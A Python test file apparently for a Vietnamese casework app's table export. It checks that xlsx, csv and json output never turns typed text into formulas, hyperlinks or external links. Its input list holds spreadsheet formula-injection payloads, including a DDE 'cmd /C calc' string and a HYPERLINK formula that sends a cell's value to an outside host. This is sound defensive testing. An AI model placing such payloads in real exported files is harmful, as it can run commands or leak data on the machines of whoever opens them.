"""Tables in files: opened again they hold what was typed, whatever that was, with types, and no cell is ever a formula."""
from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from collections.abc import Iterator
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape

from casework.settings.importing.tables import RISKY, read_table
from reports.tables.table import Column, Table
from reports.tables.workbook import LONGEST_CELL, fitting
from reports.tables.writing import MEDIA_TYPES, write_table

NOW = datetime(2026, 3, 2, 3, 0, 30, tzinfo=UTC)
LONG = "Đ" * 1_000_000
HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"bấm")', "+84912345678", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\tTab trước", "\r=1+1", "\n=1+1",
    "＝1+1", "'=1+1", "''", "'", "{=1+1}", "http://x.example/a", "mailto:a@x.example", "internal:Sheet1!A1", "0123", "1e5", "TRUE",
    'nói "thế"; và, rồi', "dòng 1\ndòng 2\r\ndòng 3", "  hai đầu  ", "_x0041_", "_x005F_", "<img src=file:///etc/passwd>", "]]>&amp;",
    "\u202eđảo ngược\u202c \u200f", "Đà Lạt", "😀" * 3, "#REF!", "Xã Lát (trước đây: xã Đạ Chais)", LONG,
]  # fmt: skip
FORBIDDEN = "a\x00b\x01c\x08d\x0be\x1ff\ufffeg\ud800h"
LOCALLY = datetime.fromisoformat("2026-03-02T10:00:30")
COLUMNS = (
    Column("text", "=Tiêu đề"), Column("whole", "Số", "integer"), Column("part", "Phần", "decimal"), Column("at", "Lúc", "datetime", 17),
    Column("on", "Ngày", "day"), Column("share", "Tỷ lệ", "share"),
)  # fmt: skip


def rows() -> Iterator[tuple[Any, ...]]:
    yield from ((text, -number, number / 8, NOW, date(2026, 2, 28), 0.125) for number, text in enumerate(HOSTILE))
    yield (FORBIDDEN, None, None, None, None, None)


@pytest.fixture(scope="module")
def files(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("tables")
    paths = {form: folder / f"table.{form}" for form in MEDIA_TYPES}
    for form, path in paths.items():
        table = Table("[Danh sách]: hồ sơ trễ hạn của tất cả các đơn vị", COLUMNS, rows(), notes=[("Bộ lọc", "=1+1"), ("Dài", LONG)])
        assert write_table(table, form, path, made_at=NOW) == len(HOSTILE) + 1
    return paths


def test_a_workbook_holds_what_was_typed_as_text_and_nothing_that_acts(files: dict[str, Path]) -> None:
    book = load_workbook(files["xlsx"])
    sheet, beside = book.worksheets
    assert (sheet.title, beside.title, book.properties.title) == ("Danh sách   hồ sơ trễ hạn của", "Ghi chú", table_title())
    head, *body = sheet.iter_rows()
    assert ([cell.value for cell in head], [cell.data_type for cell in head]) == ([each.name for each in COLUMNS], ["s"] * 6)
    for typed, row in zip(HOSTILE, body, strict=False):
        assert row[0].data_type in ("s", "inlineStr"), (typed[:30], row[0].data_type)
        assert unescape(row[0].value) == fitting(typed), typed[:30]
        assert row[0].hyperlink is None
    assert unescape(body[-1][0].value) == "a\ufffdb\ufffdc\ufffdd\ufffde\ufffdf\ufffdg\ufffdh"
    assert [cell.value for cell in body[-1][1:]] == [None] * 5
    one = body[1]
    assert [cell.value for cell in one[1:]] == [-1, 0.125, LOCALLY, datetime.fromisoformat("2026-02-28"), 0.125]
    assert [cell.number_format for cell in one] == ["@", "#,##0", "#,##0.##", "dd/mm/yyyy hh:mm", "dd/mm/yyyy", "0.0%"]
    assert (sheet.freeze_panes, sheet.auto_filter.ref) == ("A2", f"A1:F{len(HOSTILE) + 2}")
    assert sheet.column_dimensions["D"].width == pytest.approx(17, abs=1)
    notes = {row[0].value: row[1].value for row in beside.iter_rows(min_row=3)}
    assert (notes["Bộ lọc"], len(notes["Dài"]), notes["Dài"][-4:]) == ("=1+1", LONGEST_CELL, " […]")
    with zipfile.ZipFile(files["xlsx"]) as archive:
        parts = {name: archive.read(name).decode() for name in archive.namelist() if name.endswith((".xml", ".rels"))}
    assert not any(re.search(r"<f[ >]|<hyperlink|externalLink|vbaProject", text) for text in parts.values())
    assert not any("External" in text for text in parts.values())


def table_title() -> str:
    return "[Danh sách]: hồ sơ trễ hạn của tất cả các đơn vị"


def test_a_text_longer_than_a_cell_is_cut_and_says_so(files: dict[str, Path]) -> None:
    assert (len(fitting(LONG)), fitting(LONG).endswith(" […]")) == (LONGEST_CELL, True)
    faces = fitting("😀" * 20_000)
    assert len(faces.encode("utf-16-le")) // 2 <= LONGEST_CELL
    assert "\ufffd" not in faces
    assert fitting("x" * LONGEST_CELL) == "x" * LONGEST_CELL


def test_csv_opens_to_what_was_typed_behind_one_apostrophe_where_a_formula_would_begin(files: dict[str, Path]) -> None:
    data = files["csv"].read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.count(b"\xef\xbb\xbf") == 1
    usual = csv.field_size_limit(2 * len(LONG))
    try:
        head, *body = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), strict=True)
    finally:
        csv.field_size_limit(usual)
    assert head[0] == "'=Tiêu đề"
    for typed, row in zip(HOSTILE, body, strict=False):
        told = row[0]
        assert not told.startswith(RISKY), typed[:30]
        assert (told[1:] if typed.lstrip("'").startswith(RISKY) else told) == typed, typed[:30]
    assert body[1][1:] == ["-1", "0.125", "2026-03-02 10:00", "2026-02-28", "0.125"], "a number below nought is no formula"
    assert body[-1] == ["a\ufffdb\ufffdc\ufffdd\ufffde\ufffdf\ufffdg\ufffdh", "", "", "", "", ""]
    # where another sign separates cells, the quotes still hold a text together
    line = next(line for line in data.decode("utf-8-sig").split("\r\n") if line.startswith('"nói '))
    assert next(csv.reader([line], delimiter=";"))[0].startswith('nói "thế"; và, rồi')


def test_json_is_one_array_of_objects_with_instants_that_carry_their_offset(files: dict[str, Path]) -> None:
    data = json.loads(files["json"].read_text("utf-8"))
    assert [row["text"] for row in data[:-1]] == HOSTILE
    assert data[1] == {"text": HOSTILE[1], "whole": -1, "part": 0.125, "at": "2026-03-02T10:00:30+07:00", "on": "2026-02-28",
                       "share": 0.125}  # fmt: skip
    assert data[-1] == {"text": "a\ufffdb\ufffdc\ufffdd\ufffde\ufffdf\ufffdg\ufffdh", "whole": None, "part": None, "at": None, "on": None,
                        "share": None}  # fmt: skip


def test_an_empty_table_is_a_file_all_the_same_and_the_same_table_is_the_same_bytes(tmp_path: Path) -> None:
    for form in MEDIA_TYPES:
        first, second = tmp_path / f"1.{form}", tmp_path / f"2.{form}"
        for path in (first, second):
            assert write_table(Table("Ghi chú", COLUMNS, ()), form, path, made_at=NOW) == 0
        assert first.read_bytes() == second.read_bytes(), form
    assert load_workbook(tmp_path / "1.xlsx").sheetnames == ["Bảng", "Ghi chú"]
    assert json.loads((tmp_path / "1.json").read_text()) == []


def test_what_is_exported_is_read_back_by_our_own_import(tmp_path: Path) -> None:
    """One rule for the apostrophe: `harmless` writes it, `read_table` takes it away."""
    typed = ["+84912345678", "-1+1", "\u202eđảo"]
    for form in ("csv", "xlsx"):
        path = tmp_path / f"t.{form}"
        write_table(Table("Bảng", COLUMNS[:1], [(text,) for text in typed]), form, path, made_at=NOW)
        read = [line.cells[0] for line in read_table(path.read_bytes(), path.name)[1:]]
        assert read[:2] == typed[:2]
